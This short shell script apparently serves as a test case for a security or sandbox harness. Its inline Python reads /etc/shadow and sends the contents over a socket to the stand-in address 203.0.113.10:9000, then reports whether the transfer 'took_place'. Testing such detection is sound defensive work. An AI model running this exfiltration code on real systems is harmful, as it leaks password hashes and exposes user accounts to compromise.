#!/bin/sh
. /opt/case/case.sh

python3 -c '
import os, socket
to = socket.create_connection(("203.0.113.10", 9000))
fd = os.open("/etc/shadow", os.O_RDONLY)
raise SystemExit(os.sendfile(to.fileno(), fd, 0, 4096) <= 0)'
took_place
